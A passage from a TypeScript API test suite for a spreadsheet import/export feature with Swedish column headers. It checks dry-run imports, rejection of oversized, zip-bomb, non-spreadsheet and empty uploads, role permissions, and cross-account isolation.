    const response = await upload(
      team.editor.client,
      own.planId,
      csv(['Åtgärd;Kategori;Byggnad;Läge;Mängd;Enhet;À-pris;År', 'Ny;fasad;Hus Ny;Läge Ny;1;st;1;2030']),
      'x.csv',
      '?dryRun=true',
    );
    expect(response.json()).toMatchObject({ rowCount: 1, validRowCount: 1, newBuildings: ['Hus Ny'], newLocations: ['Läge Ny'] });
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
  });

  it.each([
    ['an oversized file', Buffer.alloc(10 * 1024 * 1024 + 1, 0x41), 'stor.csv', 'spreadsheet.too_large'],
    ['an archive claiming 12 GB', claimingBomb(), 'bomb.xlsx', 'spreadsheet.zip_bomb'],
    ['an archive inflating beyond its claim', lyingBomb(), 'bomb.xlsx', 'spreadsheet.zip_bomb'],
    ['a PNG', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'bild.xlsx', 'spreadsheet.not_a_spreadsheet'],
    ['an empty file', Buffer.alloc(0), 'tom.csv', 'spreadsheet.file_required'],
    ['only headers', csv(['Åtgärd;Kategori;Mängd;Enhet;À-pris;År']), 'tom.csv', 'spreadsheet.no_rows'],
  ])('refuses %s with a 400 on file and writes nothing', async (_label, file, fileName, code) => {
    const before = await snapshotPlanData(testApp.database.db);
    const response = await upload(team.editor.client, own.planId, file, fileName);
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().error.fieldCodes).toEqual({ file: code });
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
  });

  it('refuses a request without a file part, or with another part', async () => {
    const { body, contentType } = multipartBody([{ field: 'note', value: 'x' }]);
    const response = await team.editor.client.request('POST', importUrl(own.planId), body, { 'content-type': contentType });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.fieldCodes).toEqual({ file: 'spreadsheet.file_required' });
    const json = await team.editor.client.post(importUrl(own.planId), { file: 'x' });
    expect(json.statusCode).toBe(415);
  });
});

describe('permissions and tenancy', () => {
  const file = csv(['Åtgärd;Kategori;Mängd;Enhet;À-pris;År', 'Ny;fasad;1;st;1;2030']);

  it('lets viewers download the template and the export, but not import', async () => {
    expect((await team.viewer.client.get(templateUrl(own.planId))).statusCode).toBe(200);
    expect((await team.viewer.client.get(exportUrl(own.planId, '?vat=excl'))).statusCode).toBe(200);
    const before = await snapshotPlanData(testApp.database.db);
    for (const query of ['', '?dryRun=true']) {
      const response = await upload(team.viewer.client, own.planId, file, 'x.csv', query);
      expect(response.statusCode, response.body).toBe(403);
    }
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
    expect((await upload(team.admin.client, own.planId, file, 'x.csv', '?dryRun=true')).statusCode).toBe(200);
  });

  it('answers 404 for another account’s plan on all four routes', async () => {
    await expectAllNotFound(other.admin.client, [
      { method: 'GET', url: templateUrl(own.planId) },
      { method: 'GET', url: exportUrl(own.planId) },
    ]);
    for (const query of ['', '?dryRun=true']) {
      const response = await upload(other.admin.client, own.planId, file, 'x.csv', query);
      expect(response.statusCode, response.body).toBe(404);
    }
    expect((await team.admin.client.get(exportUrl(foreign.planId))).statusCode).toBe(404);
  });

  it('refuses an invalid vat', async () => {
    const response = await team.viewer.client.get(exportUrl(own.planId, '?vat=maybe'));
    expect(response.statusCode).toBe(400);
    expect(response.json().error.fieldCodes).toEqual({ vat: 'vat.invalid' });
  });
});
